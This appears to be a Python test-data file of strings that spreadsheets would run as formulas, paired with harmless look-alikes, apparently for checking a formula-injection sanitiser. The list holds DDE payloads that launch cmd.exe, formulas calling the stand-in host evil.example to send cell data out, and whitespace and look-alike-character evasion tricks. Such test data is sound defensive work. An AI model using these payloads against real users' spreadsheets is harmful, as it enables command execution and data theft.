"""Texts that a spreadsheet would run, were they cells of a sheet as they are."""

RUN = (
    "=1+1", "+1+1", "-1+1", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "\u00a0=1+1", "\u3000=1+1",
    "\ufeff=1+1", "\u200b=1+1", "\x00=1+1", "\x0b-1+1", "＝1+1", "＋1+1", "－1+1", "＠SUM(A1)", " \t＝1+1",  # noqa: RUF001 - full-width on purpose
    "=cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "-cmd|' /C calc'!A0", "@cmd|' /C calc'!A0",
    '=DDE("cmd";"/C calc";"A0")', "=MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe /c calc'!''",
    '=HYPERLINK("http://evil.example/?"&A1,"click")', '=IMPORTXML("http://evil.example","//a")',
    '=WEBSERVICE("http://evil.example")', '=1+1";=2+2', "=1+1\r\n=2+2", "\r\n=1+1", "-2+3+cmd|' /C calc'!A0",
)  # fmt: skip
"""Formulas, and the tricks that bring one in: blanks in front, ends of lines, signs that only look alike."""

HARMLESS = ('"=1+1"', "'=1+1", "a=1+1", "a\n=1+1", 'x";=1+1', "1-1", "a@example.org", "{=1+1}", "", "é")
"""Texts that stay as they are: what quotes hold is one text."""
